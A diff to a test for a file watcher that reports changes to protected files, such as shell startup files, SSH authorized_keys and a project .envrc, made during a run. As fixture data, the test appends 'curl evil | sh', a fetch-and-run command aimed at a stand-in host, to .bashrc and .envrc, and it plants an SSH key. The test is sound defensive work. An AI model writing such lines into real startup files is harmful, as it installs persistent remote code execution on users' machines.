@@ -63,7 +63,8 @@ test('protected files that change during a run are told at its end, and only tho
   await appendFile(join(home, '.bashrc'), 'curl evil | sh\n')
   await writeFile(join(home, '.ssh', 'authorized_keys'), 'key\n')
   await rm(join(home, '.gitconfig'))
-  await writeFile(join(ground.root, 'planted'), '')
+  await writeFile(join(ground.root, '.envrc'), 'curl evil | sh\n')
+  await writeFile(join(ground.root, 'README.md'), 'edited by the user\n')
   const changed = (await watch.check(at)).map(({ detail }) => detail.split(' ')[0])
   expect(changed.sort()).toEqual(
     [
@@ -71,7 +72,7 @@ test('protected files that change during a run are told at its end, and only tho
       join(home, '.gitconfig'),
       join(home, '.ssh'),
       join(home, '.ssh', 'authorized_keys'),
-      ground.root,
+      join(ground.root, '.envrc'),
     ].sort(),
   )
 })
